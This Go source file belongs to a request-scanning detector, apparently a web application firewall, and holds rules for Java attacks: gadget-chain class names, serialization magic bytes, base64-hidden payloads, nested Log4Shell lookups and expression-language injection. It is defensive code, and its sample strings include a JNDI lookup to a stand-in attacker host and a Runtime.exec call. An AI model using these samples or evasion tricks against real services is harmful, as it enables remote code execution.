package detect

import (
	"bytes"
	"strings"
)

// Java attacks: class names of the runtime and of deserialization gadget
// chains, serialized-object magic in any encoding, expression-language
// and Log4Shell lookups, however they are nested and spelled.

// javaGadgets are names that only deserialization gadget chains and
// code-execution payloads spell out.
const javaGadgets = "processbuilder processimpl unixprocess getruntime clonetransformer forclosure instantiatefactory instantiatetransformer invokertransformer prototypeclonefactory prototypeserializationfactory whileclosure chainedtransformer constanttransformer templatesimpl lazymap transformedmap annotationinvocationhandler badattributevalueexpexception jdbcrowsetimpl xmldecoder xstream beanshell rmiconnector jmxconnector classloader.loadclass defineclass urlclassloader scriptenginemanager nashorn"

// javaBase64Words are what a base64 blob in a request should not hide.
var javaBase64Words = byteWords(javaGadgets + " runtime java.lang")

var javaRules = ruleTable{class: Java, rules: []ruleSpec{
	{id: "java-class-name", pl: 1, score: critical, where: tAll, view: viewLow,
		keywords: words("com.opensymphony java. javax. jdk. sun. org.omg org.apache org.springframework org.codehaus com.mchange com.fasterxml org.hibernate ognl. bsh. groovy. clojure."),
		pattern:  `\b(?:java|javax|jdk|sun)\.[a-z_$][\w$]*\.[\w$]|\bcom\.opensymphony\.\w|\borg\.apache\.(?:commons|struts\d?)\b|\b(?:com\.sun|org\.omg|org\.apache\.(?:commons\.(?:collections\d*|beanutils|fileupload)|xalan|xbean|naming|tomcat|catalina|batik|myfaces|wicket|shiro)|org\.springframework|org\.codehaus\.groovy|com\.mchange|com\.fasterxml\.jackson\.databind|org\.hibernate|ognl|bsh|groovy\.lang|clojure\.(?:core|lang))\.[\w$]`,
		sample:   `java.lang.Runtime`, lookAlike: `download java.com`},
	{id: "java-gadget-name", pl: 1, score: critical, where: tAll, view: viewLow,
		keywords: words(javaGadgets),
		sample:   `ProcessBuilder`, lookAlike: `process builder`},
	{id: "java-runtime-method", pl: 1, score: critical, where: tAll, view: viewLow,
		keywords: words("runtime"),
		pattern:  `\bruntime\s*[.(]\s*(?:getruntime|exec|\w*closure|\w*transformer|\w*factory)|\bruntime\.\w+\s*\(`,
		sample:   `Runtime.getRuntime().exec("id")`, lookAlike: `runtime error`},
	{id: "java-serialized-magic", pl: 1, score: critical, where: tAll, view: viewLow,
		keywords: words("aced0005 ro0ab kztaau cs7qaf"),
		sample:   `rO0ABXNy`, lookAlike: `aced0004`,
	},
	{id: "java-base64-payload", pl: 1, score: critical, where: tArgs | THeader | TFilename, view: viewDec,
		needs:  cUpper | cLower | cLong, // see base64Kind
		check:  base64HidesJava,
		sample: `eD1qYXZhLmxhbmcuUnVudGltZS5nZXRSdW50aW1lKCk=`, lookAlike: `SGVsbG8sIGhlcmUgaXMgYSBwbGFpbiBub3Rl`},
	{id: "java-log4shell", pl: 1, score: critical, where: tAll, view: viewLow,
		keywords: words("${"),
		check:    log4jLookup,
		sample:   `${jndi:ldap://evil.example/a}`, lookAlike: `${user.name}`},
	{id: "java-expression-language", pl: 1, score: critical, where: tAll, view: viewLow,
		keywords: words("#{ %{ ${ #_memberaccess #context @java class.module class.classloader .getclass( forname("),
		pattern:  `[#$%]\{[^}]*(?:runtime|getclass|classloader|forname|processbuilder|exec\s*\(|@java|#_memberaccess|#context|getenv|scriptengine)|#_memberaccess|#context\[|\bclass\.(?:module\.)?classloader\b|\.getclass\s*\(\s*\)\s*\.|\bclass\.forname\s*\(`,
		sample:   `#{T(java.lang.Runtime)}`, lookAlike: `#{total}`},
}}

// log4jLookup finds a ${jndi:...} lookup after undoing the nesting Log4j
// resolves: ${lower:j}, ${::-j}, ${env:X:-j} and friends all yield "j".
func log4jLookup(f *forms) bool {
	s := f.lowered()
	for range 4 {
		if strings.Contains(s, "${jndi:") || strings.Contains(s, "${jndi :") {
			return true
		}
		r := resolveLookups(s)
		if r == s {
			break
		}
		s = r
	}
	// Nested lookups around protocol names are the evasion itself.
	return strings.Contains(s, "${${") || strings.Contains(s, ":-j}") || strings.Contains(s, "${jndi")
}

// resolveLookups replaces each innermost ${...} that Log4j reduces to a
// literal: ${prefix:...:-X} gives X, ${lower:X} and ${upper:X} give X.
func resolveLookups(s string) string {
	var b strings.Builder
	for {
		i := strings.Index(s, "${")
		if i < 0 {
			b.WriteString(s)
			return b.String()
		}
		end := strings.IndexByte(s[i+2:], '}')
		inner := ""
		if end >= 0 {
			inner = s[i+2 : i+2+end]
		}
		if end < 0 || strings.Contains(inner, "${") {
			b.WriteString(s[:i+2])
			s = s[i+2:]
			continue
		}
		b.WriteString(s[:i])
		s = s[i+2+end+1:]
		switch {
		case strings.Contains(inner, ":-"):
			b.WriteString(inner[strings.LastIndex(inner, ":-")+2:])
		case strings.HasPrefix(inner, "lower:"), strings.HasPrefix(inner, "upper:"):
			b.WriteString(inner[6:])
		default:
			b.WriteString("${" + inner + "}")
		}
	}
}

// base64HidesJava looks in base64 runs for gadget names and the
// serialization magic.
func base64HidesJava(f *forms) bool {
	raw, low := f.base64Plains()
	for i := range raw {
		if bytes.Contains(raw[i], javaSerialMagic) || containsAny(low[i], javaBase64Words) {
			return true
		}
	}
	return false
}

// javaSerialMagic starts every Java serialization stream.
var javaSerialMagic = []byte{0xac, 0xed, 0x00, 0x05}
